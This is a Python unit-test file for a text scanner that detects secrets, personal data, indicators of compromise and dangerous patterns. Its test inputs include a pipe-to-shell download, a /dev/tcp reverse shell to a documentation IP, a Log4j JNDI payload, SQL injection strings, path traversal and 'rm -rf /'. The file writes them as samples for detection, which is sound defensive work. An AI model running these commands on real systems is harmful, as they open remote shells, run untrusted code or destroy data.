"""What security looks for in text: credentials, personal data, indicators, dangerous patterns."""

import base64

import pytest

from bailiwick.packs.operations.departments.body import Line
from bailiwick.packs.operations.departments.personal_data import find_personal_data
from bailiwick.packs.operations.departments.secrets_in_text import entropy_bits, find_secrets
from bailiwick.packs.operations.departments.security_indicators import find_indicators, find_patterns
from bailiwick.telemetry.redacting import redacted
from tests.unit.operations.departments.desks import AWS, GITHUB

WEB_TOKEN = ".".join(
    [
        base64.urlsafe_b64encode(b'{"alg":"HS256","typ":"JWT"}').decode().rstrip("="),
        "eyJzdWIiOiIxMjM0NTY3ODkwIn0",
        "c2lnbmF0dXJlLXBhcnQ",
    ]
)


def lines_of(text: str) -> list[Line]:
    return [Line(f"line {number}", line) for number, line in enumerate(text.splitlines(), start=1)]


@pytest.mark.parametrize(
    ("text", "kind", "certain"),
    [
        (f"key {AWS} was used", "AWS access key id", True),
        (f"token={GITHUB}", "GitHub token", True),
        (f"Authorization: Bearer {WEB_TOKEN}", "JSON web token", True),
        ("postgres://app:s3cr3tPa55@db.internal/app", "credentials in a URL", True),
        ("-----BEGIN RSA PRIVATE KEY-----", "private key", True),
        ("api_key = 'q7Xv92LmPz04TrBn'", "value named like a secret", False),
        ("password: hunter2hunter2X9", "value named like a secret", False),
    ],
)
def test_secrets_are_found_and_never_shown(text: str, kind: str, certain: bool) -> None:
    (found,) = find_secrets(lines_of(text))
    assert (found.kind, found.certain) == (kind, certain)
    for secret in (AWS, GITHUB, WEB_TOKEN, "s3cr3tPa55", "q7Xv92LmPz04TrBn", "hunter2hunter2X9"):
        assert secret not in found.masked


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"key {AWS} was used", "AWS access key id"),
        (f"it is {GITHUB} now", "GitHub token"),
        (f"use {WEB_TOKEN}", "JSON web token"),
        ("postgres://app:s3cr3tPa55@db.internal/app", "credentials in a URL"),
        ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----", "private key"),
    ],
)
def test_a_secret_is_still_reported_where_the_event_log_took_it_out(text: str, kind: str) -> None:
    (found,) = find_secrets(lines_of(redacted(text)))
    assert (found.kind, found.certain) == (kind, True)


@pytest.mark.parametrize(
    "text",
    [
        "password: ${DB_PASSWORD}",
        "token: <your-token>",
        "api_key=os.environ['KEY_NAME_1']",
        "secret: aaaaaaaaaaaaaaaa",
        "the token: something that expires",
        "password = 'example-password-1'",
        "AKIA1234",
        "eyJhbGciOi.not.token",
    ],
)
def test_placeholders_and_prose_are_no_secrets(text: str) -> None:
    assert list(find_secrets(lines_of(text))) == []


def test_entropy_is_shannons() -> None:
    assert entropy_bits("aaaa") == 0
    assert entropy_bits("abcd") == 2
    assert entropy_bits("") == 0


def test_indicators_are_read_defanged_and_hosts_need_a_link() -> None:
    text = (
        "from 203.0.113.9 and 10.0.0.300 to hxxps://evil[.]example-bad.com/x, see main.py\nCVE-2021-44228"
        " cve-2021-44228 " + "a" * 64
    )
    found = {(one.kind, one.value) for one in find_indicators(lines_of(text))}
    assert found == {
        ("ip", "203.0.113.9"),
        ("host", "evil.example-bad.com"),
        ("cve", "CVE-2021-44228"),
        ("sha256", "a" * 64),
    }


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("curl https://x.sh | sudo bash", "download piped into a shell"),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse shell over /dev/tcp"),
        ("User-Agent: ${jndi:ldap://198.51.100.7/a}", "JNDI lookup as used against Log4j"),
        ("q=' OR 1=1", "SQL tautology"),
        ("id=1 UNION SELECT password FROM users", "SQL UNION injection"),
        ("GET /../../../../etc/passwd", "path traversal"),
        ("<script>alert(1)</script>", "script in markup"),
        ("rm -rf / ", "recursive deletion of the root"),
    ],
)
def test_dangerous_patterns_are_named(text: str, rule: str) -> None:
    assert [one.rule for one in find_patterns(lines_of(text))] == [rule]


@pytest.mark.parametrize(
    "text", ["curl https://x.sh -o x.sh", "rm -rf /tmp/build", "see ../docs", "union of sets", "SELECT a FROM b"]
)
def test_ordinary_lines_are_not_dangerous(text: str) -> None:
    assert list(find_patterns(lines_of(text))) == []


def test_personal_data_is_found_masked_and_checked() -> None:
    text = (
        "mail jane.roe@mail.acme-corp.com or noreply@acme-corp.com or a@example.com\nIBAN DE89 3704 0044 0532 0130 00"
        " PAID\ncard 4111-1111-1111-1111, order 4111-1111-1111-1112\nssn 123-45-6789"
    )
    found = list(find_personal_data(lines_of(text)))
    assert [(one.kind, one.source) for one in found] == [
        ("e-mail address", "line 1"),
        ("IBAN", "line 2"),
        ("payment card", "line 3"),
        ("US SSN", "line 4"),
    ]
    assert "jane.roe" not in repr(found)
    assert "4111" not in repr(found).replace("1111", "", 1)
    assert "3704" not in repr(found)
